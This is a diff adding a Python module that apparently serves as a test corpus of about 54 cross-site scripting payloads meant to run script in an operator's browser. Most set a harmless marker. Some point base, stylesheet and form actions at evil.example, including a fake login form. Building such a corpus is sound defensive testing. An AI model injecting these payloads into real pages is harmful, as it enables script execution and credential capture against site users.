@@ -1,0 +1,66 @@
+"""What somebody might type into a form, or a vendor might answer, to run a script in the operator's browser.
+
+Each string leaves `window.__pwned` or opens a dialog where it succeeds. None holds an `@`, long numbers or two blanks
+in a row: what is taken for personal data in vendors' words is masked, and blanks are joined.
+"""
+
+from __future__ import annotations
+
+from typing import Final
+
+CORPUS: Final = (
+    "<script>window.__pwned=1</script>",
+    "<ScRiPt >window.__pwned=2</sCrIpT >",
+    "</title><script>window.__pwned=3</script>",
+    "</textarea><script>window.__pwned=4</script>",
+    "</pre></details><script>window.__pwned=5</script>",
+    "</td></tr></table><script>window.__pwned=6</script>",
+    "--><script>window.__pwned=7</script><!--",
+    "]]><script>window.__pwned=8</script>",
+    "<<script>window.__pwned=9//<</script>",
+    "<script/src=data:,window.__pwned=10></script>",
+    "<script src='data:text/javascript,window.__pwned=11'></script>",
+    "<img src=x onerror=window.__pwned=12>",
+    '"><img src=x onerror=window.__pwned=13>',
+    "'><img src=x onerror=window.__pwned=14>",
+    "`><img src=x onerror=window.__pwned=15>",
+    '" onfocus=window.__pwned=16 autofocus x="',
+    "' onfocus=window.__pwned=17 autofocus x='",
+    "<svg onload=window.__pwned=18>",
+    "<svg/onload=window.__pwned=19//",
+    "<svg><script>window.__pwned=20</script></svg>",
+    "<svg><animate onbegin=window.__pwned=21 attributeName=x dur=1s>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=22>",
+    "<body onload=window.__pwned=23>",
+    "<details open ontoggle=window.__pwned=24>",
+    "<input autofocus onfocus=window.__pwned=25>",
+    "<select autofocus onfocus=window.__pwned=26>",
+    "<video><source onerror=window.__pwned=27></video>",
+    "<audio src=x onerror=window.__pwned=28>",
+    "<iframe src='javascript:parent.__pwned=29'></iframe>",
+    "<iframe srcdoc='<script>parent.__pwned=30</script>'></iframe>",
+    "<object data='javascript:parent.__pwned=31'></object>",
+    "<embed src='javascript:parent.__pwned=32'>",
+    "<a href='javascript:window.__pwned=33' id=x>open me</a>",
+    "javascript:window.__pwned=34",
+    "<meta http-equiv=refresh content='0;url=javascript:window.__pwned=35'>",
+    "<base href='http://evil.example/'>",
+    "<link rel=stylesheet href='http://evil.example/x.css'>",
+    "<style>body{background:url(http://evil.example/x)}</style>",
+    "<form action='http://evil.example/'><button>Log in</button>",
+    "<marquee onstart=window.__pwned=40>x</marquee>",
+    "&lt;script&gt;window.__pwned=41&lt;/script&gt;",
+    "&#60;script&#62;window.__pwned=42&#60;/script&#62;",
+    "\\u003cscript\\u003ewindow.__pwned=43\\u003c/script\\u003e",
+    "%3Cscript%3Ewindow.__pwned=44%3C/script%3E",
+    "+ADw-script+AD4-window.__pwned=45+ADw-/script+AD4-",
+    "\uff1cscript\uff1ewindow.__pwned=46\uff1c/script\uff1e",
+    "\u2039img src=x onerror=alert(47)\u203a",
+    "<img src=x onerror=alert(48)>",
+    "{{constructor.constructor('window.__pwned=49')()}}",
+    "${window.__pwned=50}",
+    "<%= window.__pwned=51 %>",
+    "';window.__pwned=52;//",
+    "<template shadowrootmode=open><script>window.__pwned=53</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=window.__pwned=54>'>",
+)
